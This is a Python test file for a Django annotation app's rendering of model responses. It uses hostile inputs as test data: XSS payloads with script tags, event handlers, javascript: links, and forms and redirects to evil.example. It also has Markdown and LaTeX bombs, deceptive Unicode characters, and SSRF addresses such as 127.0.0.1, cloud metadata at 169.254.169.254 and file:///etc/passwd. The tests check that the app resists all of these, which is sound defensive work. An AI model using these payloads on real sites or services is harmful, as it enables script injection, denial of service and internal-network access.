"""Texts that want to run, to cover, to never end, to deceive, or to make us call inside."""

import re
import socket
import struct
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from django.test import Client
from playwright.sync_api import expect

from annotation import images
from annotation.models import Candidate, Judgment, Project
from annotation.rendering import render_latex, render_markdown
from tests.annotation.calling import as_
from tests.browsing import OpenPage
from tests.cast import World

pytestmark = pytest.mark.django_db

JUDGE = "/projects/advice/judge/"
SECONDS = 10.0  # for one text, on a busy machine; without bounds these would take minutes


def respond(text: str) -> None:
    Candidate.objects.update(text=text, html=render_markdown(text))


# --- What wants to run or to cover (19) ---------------------------------------------------------

HOSTILE = """<script>window.ran = "script"</script>
<img src=x onerror="window.ran='handler'"><svg onload="window.ran='svg'"><circle/></svg>
<a href="javascript:window.ran='link'">click</a> [too](javascript:window.ran='markdown')
[data](data:text/html,<script>window.ran='data'</script>)
<style>.answer-bar{display:none}</style>
<div style="position:fixed;inset:0;z-index:9999;background:red">covered</div>
<form action="https://evil.example/"><button name="choice" value="3">Best</button></form>
<iframe src="https://evil.example/"></iframe><base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<input data-key="1" name="submission_key" value="stolen">
<p hx-get="/account/tokens/" hx-trigger="load">
<p data-choice data-error id="task">$\\href{javascript:alert(1)}{x} \\style{position:fixed}{y}$
"""


@pytest.mark.browser
def test_a_hostile_response_runs_nothing_and_covers_nothing(
    lived_in: World, open_page: OpenPage
) -> None:
    respond(HOSTILE)
    page = open_page(lived_in.ada, "/")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: asked.append(f"dialog: {dialog.message}"))
    page.goto(JUDGE)
    page.wait_for_load_state("networkidle")
    for link in page.locator("[data-response] a").all():
        assert re.match(r"https?://", link.get_attribute("href") or "")
    assert page.evaluate("window.ran") is None
    assert [url for url in asked if "evil" in url or "tokens" in url or "dialog" in url] == []
    for element in ("script", "style", "svg", "img", "iframe", "form", "button", "input", "meta"):
        expect(page.locator(f"[data-response] {element}")).to_have_count(0)
    assert page.locator("#task").count() == 1
    for button in page.locator("[data-choice]").all():
        assert button.evaluate(TOP_MOST)
    page.keyboard.press("1")
    expect(page.get_by_role("heading", level=1)).to_contain_text("2 of 3")
    assert Judgment.objects.get().submission_key != "stolen"


TOP_MOST = """button => {
  const box = button.getBoundingClientRect();
  const found = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);
  return button === found || button.contains(found);
}"""


# --- What never ends (21, 22) -------------------------------------------------------------------

BOMBS = {
    "10,000 nested quotes": "> " * 10_000 + "deep",
    "nested lists": "\n".join("  " * depth + "- x" for depth in range(2_000)),
    "a table of 1,000 × 1,000": "|" + "a|" * 1_000 + "\n|" + "-|" * 1_000 + "\n|" * 1_000,
    "a line of 200,000 characters": "x" * 200_000,
    "stars for a backtracking parser": "*a " * 60_000,
    "brackets for a backtracking parser": "[" * 50_000 + "](" * 50_000,
    "ticks of every length": "".join("`" * n + "a" for n in range(600)),
    "entities": "&#x" * 60_000,
    "half a link": "[a](" * 40_000,
    "emphasis inside emphasis": "_*" * 50_000,
    "combining marks": "a" + "\u0301" * 100_000,
    "code of no language": "```" + "x" * 50_000 + "\n" + "y\n" * 50_000 + "```",
    "code for a slow lexer": "```html\n" + "<a " * 40_000 + "\n```",
}


@pytest.mark.parametrize("name", BOMBS)
def test_a_markdown_bomb_costs_bounded_time_and_space(name: str) -> None:
    began = time.thread_time()  # the processor's, whatever else the machine does
    rendered = render_markdown(BOMBS[name])
    assert time.thread_time() - began < SECONDS
    assert len(rendered) < 3_000_000


@pytest.mark.browser
@pytest.mark.parametrize(
    "name",
    ["10,000 nested quotes", "a table of 1,000 × 1,000", "a line of 200,000 characters",
     "combining marks", "code for a slow lexer"],
)  # fmt: skip
def test_a_page_with_a_bomb_can_be_judged(lived_in: World, open_page: OpenPage, name: str) -> None:
    respond(BOMBS[name])
    page = open_page(lived_in.ada, JUDGE)
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
    page.keyboard.press("3")
    expect(page.get_by_role("heading", level=1)).to_contain_text("2 of 3")


DOUBLING = (
    "".join(rf"\newcommand{{\{a}}}{{\{b}\{b}}}" for a, b in zip("abcdefg", "bcdefgh", strict=True))
    + r"\a"
)


@pytest.mark.parametrize(
    "formula",
    [
        r"\frac{" * 3_000,
        "{" * 1_900,
        r"\left(" * 300,
        r"\sqrt" * 400,
        r"\begin{matrix}" * 100,
        r"\def\x{\x\x}\x",
        r"\newcommand{\x}{\x}\x",
        DOUBLING,
        "x^" * 900,
        "x_{" * 600,
    ],
    ids=lambda formula: formula[:16],
)
def test_a_formula_without_end_or_bound_is_shown_as_its_source(formula: str) -> None:
    began = time.monotonic()
    rendered = render_latex(formula, display=True)
    around = render_markdown(f"before ${formula}$ after")
    assert time.monotonic() - began < SECONDS
    assert len(rendered) < 100_000
    assert "before" in around
    if "<math" not in rendered:
        assert rendered.startswith('<code class="latex-source">')


# --- What deceives (23) -------------------------------------------------------------------------


@pytest.mark.browser
def test_characters_that_deceive_are_made_visible(lived_in: World, open_page: OpenPage) -> None:
    deceiving = (
        "pay \u202e001\u202c now, ig\u200bnore, \u2066x\u2069, p\u0430ypal, \x00 and \ud800."
    )
    Candidate.objects.update(html=render_markdown(deceiving))  # the text itself can't be stored
    page = open_page(lived_in.ada, JUDGE)
    shown = page.locator("[data-response]").first.inner_text()
    for hidden in ("\u202e", "\u200b", "\u2066", "\x00", "\ud800"):
        assert hidden not in shown
    assert "pay ⟦U+202E⟧001" in shown
    assert "ig⟦U+200B⟧nore" in shown
    assert "p\u0430ypal" in shown  # letters of any alphabet are somebody's language


@pytest.mark.parametrize(
    ("reason", "kept"),
    [("a\x00b", None), ("\u202eabc", "\u202eabc"), ("a\u200bb", "a\u200bb")],
)
def test_characters_that_cant_be_kept_are_refused_in_a_sentence(
    world: World, client: Client, reason: str, kept: str | None
) -> None:
    client.force_login(world.ada)
    page = client.get(JUDGE).content.decode()
    handle = re.search(r'name="handle" value="([^"]+)"', page)
    assert handle is not None
    answer = {"handle": handle[1], "submission_key": "12345678", "choice": "2", "reason": reason}
    reply = client.post(JUDGE, answer, headers={"HX-Request": "true"})
    assert reply.status_code == (422 if kept is None else 200)
    assert [judgment.reason for judgment in Judgment.objects.all()] == ([kept] if kept else [])
    body = b'{"assignment": "%s", "submission_key": "12345679", "answer": {"choice": "2", %s}}'
    for strange in (b'"reason": "a\\u0000"', b'"reason": "\\ud800"'):
        sent = (body % (handle[1].encode(), strange)).decode()
        refused = as_(world.ada).send("POST", "/projects/advice/judgments/", sent)
        assert refused.status_code == 400
        assert refused.json()["detail"]


# --- What wants to be fetched from inside (24) --------------------------------------------------

PNG = b"\x89PNG\r\n\x1a\n" + struct.pack(">I", 13) + b"IHDR"


class _Inside(BaseHTTPRequestHandler):
    asked: list[str] = []

    def do_GET(self) -> None:
        self.asked.append(self.path)
        moved = self.path == "/moved.png"
        self.send_response(302 if moved else 200)
        if moved:
            self.send_header("Location", "/secret.png")
        self.send_header("Content-Length", str(len(PNG)))
        self.end_headers()
        self.wfile.write(PNG)

    def log_message(self, format: str, *args: object) -> None:
        """Quiet."""


@pytest.fixture
def inside() -> Iterator[int]:
    """A server of the house that must not be asked for anything."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Inside)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    _Inside.asked.clear()
    yield server.server_port
    server.shutdown()
    server.server_close()


@pytest.mark.browser
def test_an_image_inside_the_house_is_never_fetched(
    lived_in: World, open_page: OpenPage, inside: int
) -> None:
    Project.objects.update(options={"images": True})
    addresses = [
        f"http://localhost:{inside}/a.png",
        f"http://127.0.0.1:{inside}/b.png",
        f"http://0x7f000001:{inside}/c.png",
        f"http://[::ffff:127.0.0.1]:{inside}/d.png",
        "http://169.254.169.254/latest/meta-data/iam.png",
        "file:///etc/passwd",
    ]
    respond("\n\n".join(f"![picture]({address})" for address in addresses))
    page = open_page(lived_in.ada, "/")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    page.goto(JUDGE)
    page.wait_for_load_state("networkidle")
    shown = page.locator("[data-response] img")
    for image in shown.all():
        image.scroll_into_view_if_needed()
        assert not image.evaluate("image => image.complete && image.naturalWidth > 0")
    page.wait_for_load_state("networkidle")
    assert {_host(url) for url in asked} == {_host(page.url)}
    assert _Inside.asked == []
    page.keyboard.press("1")
    expect(page.get_by_role("heading", level=1)).to_contain_text("2 of 3")


def _host(url: str) -> str:
    return url.split("/")[2]


def test_a_redirect_and_a_name_that_changes_lead_nowhere(
    world: World, inside: int, settings: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    Project.objects.update(options={"images": True})
    world.project.refresh_from_db()
    settings.OUTBOUND_ALLOW = [f"127.0.0.1:{inside}"]
    moved = images.ticket(world.project, f"http://127.0.0.1:{inside}/moved.png")
    with pytest.raises(images.ImageRefused):
        images.fetch(world.project, moved)
    assert _Inside.asked == ["/moved.png"]
    settings.OUTBOUND_ALLOW = []
    public = "93.184.215.14"
    answers = iter([public, "127.0.0.1"])
    looked: list[str] = []

    def changing(host: str, port: int, *_: Any, **__: Any) -> list[Any]:
        looked.append(host)
        if host == public:
            raise OSError("no road there from a test")
        return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (next(answers), port))]

    monkeypatch.setattr(socket, "getaddrinfo", changing)
    monkeypatch.setattr(images, "SECONDS", 2.0)
    rebound = images.ticket(world.project, f"http://rebind.example:{inside}/secret.png")
    for _ in range(2):
        with pytest.raises(images.ImageRefused):
            images.fetch(world.project, rebound)
    assert looked == ["rebind.example", public, "rebind.example"]
    assert _Inside.asked == ["/moved.png"]
